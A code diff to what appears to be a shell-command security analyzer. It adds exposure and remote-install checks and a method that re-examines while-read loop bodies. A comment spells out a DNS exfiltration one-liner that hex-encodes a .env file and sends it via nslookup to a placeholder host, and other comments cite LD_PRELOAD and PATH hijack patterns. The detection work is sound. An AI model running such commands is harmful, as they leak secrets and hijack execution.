@@ -19,6 +19,8 @@ import { checkWrite } from './checks/files.js';
 import { checkLookup } from './checks/dispatch.js';
 import { checkAssignment } from './checks/identity.js';
 import { checkMiner } from './checks/miner.js';
+import { checkExposure } from './checks/exposure.js';
+import { checkRemoteInstall } from './checks/remote-install.js';
 import { checkWrappers } from './checks/wrappers.js';
 import { checkUnset, type WriteMode } from './checks/traces.js';
 import { initScriptCheck } from './checks/system.js';
@@ -437,6 +439,8 @@ class Analysis implements CarryContext {
     // `sudo LD_PRELOAD=x.so cmd`, `env PATH=/tmp/x:$PATH make`: judged like the same assignment before the command.
     for (const s of settings) checkAssignment(s.name, s.value, this);
     checkMiner(argv, this);
+    checkExposure(argv, this);
+    checkRemoteInstall(argv, this);
     indirectCode(argv, [...assignments, ...settings], io, this);
     // `xargs sh -c` / `xargs -I{} sh -c {}`: the shell runs text xargs reads at run time.
     if (
@@ -548,6 +552,29 @@ class Analysis implements CarryContext {
       return cmd ? (peel(commandWords(cmd, this.vars)).argv?.name ?? null) : null;
     });
     if (pipelineShellOverNetwork(names)) this.add('reverse-shell', node.text.slice(0, 80));
+    this.readLoops(pipelineLeaves(node));
+  }
+
+  /**
+   * `cat .env | xxd -p | while read l; do nslookup $l.x.example; done`: the body acts on every line the pipeline
+   * before it prints, so it is judged once more with the loop variable replaced by that output (`$(cat .env | xxd -p)`).
+   */
+  private readLoops(leaves: SyntaxNode[]): void {
+    leaves.forEach((el, i) => {
+      if (i === 0 || el.type !== 'while_statement') return;
+      const m = /^\s*read\s+(?:-\w+\s+)*([A-Za-z_]\w*)\s*;?\s*$/.exec(el.childForFieldName('condition')?.text ?? '');
+      const body = el.childForFieldName('body');
+      if (!m || !body) return;
+      const before = leaves
+        .slice(0, i)
+        .map((l) => l.text)
+        .join(' | ');
+      const inner = named(body)
+        .map((c) => c.text)
+        .join('\n');
+      const uses = new RegExp(`\\$(\\{${m[1]!}\\}|${m[1]!}\\b)`, 'g');
+      if (uses.test(inner)) this.script(inner.replace(uses, () => `$(${before})`));
+    });
   }
 }
 
